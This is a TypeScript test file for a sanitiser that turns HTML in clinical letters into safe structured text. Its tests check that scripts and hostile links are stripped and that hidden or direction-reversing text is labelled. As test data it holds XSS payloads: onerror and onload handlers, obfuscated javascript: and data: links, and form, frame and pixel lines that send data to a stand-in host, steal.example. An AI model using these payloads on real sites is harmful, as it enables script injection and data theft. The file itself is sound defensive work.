import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { richText } from '../../../../src-main/record/rich/rich-text.ts';
import { type RichBlock, richLines, type RichRun } from '../../../../src-shared/clinical/rich-text.ts';

const lines = (html: string): readonly string[] => richLines(richText(html).blocks);
const run = (text: string, ...marks: Extract<RichRun, { kind: 'text' }>['marks']): RichRun => ({
  kind: 'text',
  text,
  marks,
});
const paragraph = (...runs: readonly RichRun[]): RichBlock => ({ kind: 'paragraph', runs });
const asText = (html: string): string => JSON.stringify(richText(html).blocks);

describe('HTML → words in their order (hostile content: nothing of HTML reaches the renderer, HAZ-018)', () => {
  it.each([
    ['<div>One<br/>Two</div>', ['One', 'Two']],
    ['<p>Take <b>one</b> tablet</p><p>daily</p>', ['Take one tablet', 'daily']],
    ['<script>alert(1)</script>After', ['After']],
    ['<SCRIPT src="x">alert("</p>")</SCRIPT >After', ['After']],
    ['<img src=x onerror=alert(1)>Seen', ['Seen']],
    ['<style>p{}</style><iframe src="x">no</iframe>Seen', ['Seen']],
    ['<!-- hidden <p>no</p> -->Seen', ['Seen']],
    ['K &lt; 3.5 &amp; Na &#62; 120&nbsp;mmol', ['K < 3.5 & Na > 120\u00A0mmol']],
    ['K < 3.5 mmol', ['K < 3.5 mmol']],
    ['&lt;script&gt;alert(1)&lt;/script&gt;', ['<script>alert(1)</script>']],
    ['&#x1F600; &eacute; &bogus;&constructor;', ['😀 é &bogus;&constructor;']],
    ['a\u0000b', ['ab']],
    ['bell\u0007', ['bell\uFFFD']],
    ['<table><tr><td>Urea</td><td>5</td></tr><tr><td>Sodium</td></tr></table>', ['Urea 5', 'Sodium']],
    ['<p>never closed', ['never closed']],
    ['<ul><li>one<li>two<ul><li>three</ul></ul>', ['one', 'two', 'three']],
    ['<noscript>Seen without scripts</noscript>', ['Seen without scripts']],
    ['<object data="https://x.example/o">Seen instead</object>', ['Seen instead']],
    ['<svg onload="alert(1)"><script>alert(1)</script><text>Drawn words</text></svg>', ['Drawn words']],
    ['<math><mi>x</mi></math>', ['x']],
    ['<template>kept</template>', ['[hidden in the original: kept]']],
    ['<select><option selected>Yes<option>No</select>', ['Yes', 'No']],
    ['Take <s>two</s> one', ['Take [struck through: two] one']],
    ['Plain words', ['Plain words']],
    ['', []],
  ])('%s → %o', (html, expected) => expect(lines(html)).toEqual(expected));
});

describe('what a letter could carry to do harm has no place in the model (HAZ-018)', () => {
  it.each([
    ['a script', '<script>steal()</script>'],
    ['an event handler', '<p onclick="steal()" onmouseover=steal()>Words</p>'],
    ['an svg that loads', '<svg/onload=steal()><a xlink:href="javascript:steal()">Words</a></svg>'],
    ['a javascript: link', '<a href="javascript:steal()">Words</a>'],
    ['a javascript: link in disguise', '<a href=" &#10;java&#9;script:steal()">Words</a>'],
    ['a data: link', '<a href="data:text/html,<script>steal()</script>">Words</a>'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://steal.example/">Words'],
    ['a base', '<base href="https://steal.example/">Words'],
    ['a style sheet', '<link rel="stylesheet" href="https://steal.example/">Words'],
    [
      'a style',
      '<style>@import url(https://steal.example/)</style><p style="background:url(//steal.example)">Words</p>',
    ],
    ['a frame', '<iframe src="https://steal.example/" srcdoc="<script>steal()</script>"></iframe>'],
    ['a remote picture', '<img src="https://steal.example/pixel.png" srcset="https://steal.example/2x" alt="Words">'],
    [
      'a form',
      '<form action="https://steal.example/"><input name="steal" type="password"><button formaction="//steal">Go',
    ],
    ['an object', '<object data="https://steal.example/"><param name="steal"></object><embed src="//steal.example">'],
    ['an unclosed attribute', '<p title="steal <img src=x onerror=steal()>Words'],
  ])('%s', (_, html) => expect(asText(html)).not.toMatch(/steal|script|onerror|http-equiv/i));

  it('shows where a link leads as words that cannot be followed', () => {
    expect(richText('<a href="https://nhs.example/leaflet">Leaflet</a>').blocks).toEqual([
      paragraph(run('Leaflet '), run('(link to https://nhs.example/leaflet)', 'viewer')),
    ]);
    expect(asText('<a href="javascript:x">Photograph</a>')).toContain('led to no web page');
    expect(lines('<a href="https://nhs.example">https://nhs.example</a>')).toEqual(['https://nhs.example']);
  });

  it('puts the words of a picture in its place, and says where there are none', () => {
    expect(asText('<img src="x" alt="Fracture of the left wrist">')).toContain('[Picture: Fracture of the left wrist]');
    expect(asText('<img src="x">')).toContain('A picture without a description');
  });

  it('shows the signs that turn the direction of writing round, and says so (HAZ-026)', () => {
    const { blocks } = richText('<p>give \u202Eton od\u202C</p>');
    expect(blocks).toEqual([
      { kind: 'note', text: expect.stringContaining('direction of writing') as string },
      paragraph(run('give ⟦U+202E⟧ton od⟦U+202C⟧')),
    ]);
    expect(asText('&#x202E;x')).toContain('direction of writing');
    expect(asText('<img alt="&#x202E;evitagen">')).toContain('[Picture: ⟦U+202E⟧evitagen]');
  });
});

describe('structure that carries meaning is kept', () => {
  it('keeps what is struck through struck through, however it was written (HAZ-012)', () => {
    for (const html of [
      '<s>Penicillin</s>',
      '<del>Penicillin</del>',
      '<strike>Penicillin</strike>',
      '<span style="text-decoration: line-through">Penicillin</span>',
      '<span style="TEXT-DECORATION:underline LINE-THROUGH">Penicillin</span>',
    ]) {
      expect(richText(html).blocks, html).toEqual([paragraph(run('Penicillin', 'struck'))]);
    }
    expect(asText('<table><tr style="text-decoration:line-through"><td>Aspirin</td></tr></table>')).toContain('struck');
    expect(asText('<pre><s>Aspirin</s></pre>')).toContain('struck');
    expect(asText('<ul><li style="text-decoration:line-through">Aspirin</li></ul>')).toContain('struck');
  });

  it('keeps tables with their heads, spans and captions', () => {
    const table = richText(
      '<table><caption>Bloods</caption><thead><tr><th colspan="2">Test</th></tr></thead>' +
        '<tr><td rowspan=2>Urea</td><td>5</td></tr></table>',
    ).blocks[0];
    expect(table).toEqual({
      kind: 'table',
      caption: [run('Bloods')],
      rows: [
        { head: true, cells: [{ header: true, colSpan: 2, rowSpan: 1, blocks: [paragraph(run('Test'))] }] },
        {
          head: false,
          cells: [
            { header: false, colSpan: 1, rowSpan: 2, blocks: [paragraph(run('Urea'))] },
            { header: false, colSpan: 1, rowSpan: 1, blocks: [paragraph(run('5'))] },
          ],
        },
      ],
    });
  });

  it('keeps an empty cell, so that no value moves under another heading', () => {
    const [table] = richText('<table><tr><td></td><td>5</td></tr></table>').blocks;
    expect(table?.kind === 'table' ? table.rows[0]?.cells.length : 0).toBe(2);
  });

  it('keeps headings, lists, lines, rules, and powers', () => {
    expect(richText('<h3>Plan</h3><ol><li>Rest</li></ol><hr>10<sup>9</sup>/L<br>CO<sub>2</sub>').blocks).toEqual([
      { kind: 'heading', level: 3, runs: [run('Plan')] },
      { kind: 'list', ordered: true, items: [[paragraph(run('Rest'))]] },
      { kind: 'rule' },
      paragraph(run('10'), run('9', 'sup'), run('/L'), { kind: 'break' }, run('CO'), run('2', 'sub')),
    ]);
  });

  it('keeps the lines of preformatted text', () => {
    expect(richText('<pre>a\n  b</pre>').blocks).toEqual([
      { kind: 'preformatted', runs: [run('a'), { kind: 'break' }, run('  b')] },
    ]);
  });

  it('says whether a box was ticked and what was filled in', () => {
    const words = asText('<input type="checkbox" checked> Consents <input type=radio> Refuses <input value="3 mg">');
    expect(words).toContain('[ticked]');
    expect(words).toContain('[not ticked]');
    expect(words).toContain('[field: 3 mg]');
  });
});

describe('text that the original hides is shown, and labelled', () => {
  it.each(['display:none', 'visibility: hidden', 'opacity:0', 'font-size:0px', 'text-indent:-9999px', 'left: -5000px'])(
    '%s',
    (style) => {
      expect(richText(`<p style="${style}">No known allergies</p>`).blocks).toEqual([
        { kind: 'hidden', blocks: [paragraph(run('No known allergies'))] },
      ]);
      expect(richText(`a <span style="${style}">b</span>`).blocks).toEqual([paragraph(run('a '), run('b', 'hidden'))]);
    },
  );

  it.each(['<p hidden>x</p>', '<template>x</template>'])('%s', (html) => {
    expect(richText(html).blocks[0]?.kind).toBe('hidden');
  });

  it('does not call hidden what is seen', () => {
    for (const style of ['opacity:0.5', 'font-size:0.8em', 'display:block', 'left:-5px', 'color:red']) {
      expect(richText(`<p style="${style}">x</p>`).blocks, style).toEqual([paragraph(run('x'))]);
    }
  });

  it('says that a style sheet which may hide words is not applied', () => {
    expect(asText('<style>.x { display : none }</style><p class="x">Words</p>')).toContain('style of the original');
    expect(asText('<style>p { margin: 0 }</style><p>Words</p>')).not.toContain('style of the original');
  });
});

describe('bounded: the worst is read to a limit, and what is cut says so', () => {
  it.each([
    ['signs', '<'.repeat(1_000_000), 'whole'],
    ['comments', '<!--'.repeat(250_000), 'whole'],
    ['nested tables', '<table><tr><td>'.repeat(10_000), 'cut'],
    ['nested boxes', '<div>'.repeat(300_000), 'cut'],
    ['formatting that is never closed', Array.from({ length: 20_000 }, (_, i) => `<b id=${i}><p>`).join(''), 'cut'],
    ['links', '<a href=x>'.repeat(100_000), 'cut'],
    ['attributes', `<p ${Array.from({ length: 50_000 }, (_, i) => `a${i}=b`).join(' ')}>x`, 'whole'],
    ['entities', '&amp'.repeat(300_000), 'whole'],
  ])('%s', (_, html, read) => {
    const { blocks, isCut } = richText(html);
    expect(isCut ? 'cut' : 'whole').toBe(read);
    const written = JSON.stringify(blocks);
    expect(written.includes('Cut here:')).toBe(isCut);
    expect(written.length).toBeLessThan(2 * html.length);
  });

  it('loses no word and no order by depth, and says that layout was lost', () => {
    const deep = `${'<div>'.repeat(10_000)}one<p>two${'</div>'.repeat(10_000)}three`;
    expect(lines(deep)).toEqual(['one', 'two', 'three']);
    expect(asText(deep)).toContain('nested more deeply');
  });

  it('says at the end what was cut, and how to come to the rest', () => {
    const long = richText('<p>word</p>'.repeat(60_000));
    expect(long.isCut).toBe(true);
    expect(long.blocks.at(-1)).toEqual({ kind: 'note', text: expect.stringContaining('Cut here:') as string });
    expect(richText('<p>word</p>').isCut).toBe(false);
  });

  it('never throws, and no tag of the source is in what it gives (fast-check)', () => {
    const pieces = [
      '<p>',
      '</p>',
      '<table>',
      '<td>',
      '<b>',
      '</b>',
      '<svg>',
      '<template>',
      '<select>',
      '<!--',
      '-->',
      '<',
      '>',
    ];
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.string(), fc.constantFrom(...pieces)), { maxLength: 40 }), (parts) =>
        Array.isArray(richText(parts.join('')).blocks),
      ),
    );
  });
});

describe('words without markup, as most narratives are', () => {
  it('are read as the parser reads them', () => {
    const letters = 'ab .;  \'"#>=/0?'.split('');
    const words = fc.string({ unit: fc.constantFrom(...letters), maxLength: 20 });
    const html = fc.oneof(
      words,
      fc.array(words, { minLength: 1, maxLength: 4 }).map((all) => `<p>${all.join('</p><p>')}</p>`),
    );
    fc.assert(
      fc.property(html, (inner) => {
        const opening = '<div xmlns="http://www.w3.org/1999/xhtml">';
        // A comment is nothing to a reader, and keeps it from the short way.
        expect(richText(`${opening}${inner}</div>`)).toEqual(richText(`${opening}${inner}</div><!-- -->`));
      }),
    );
  });
});
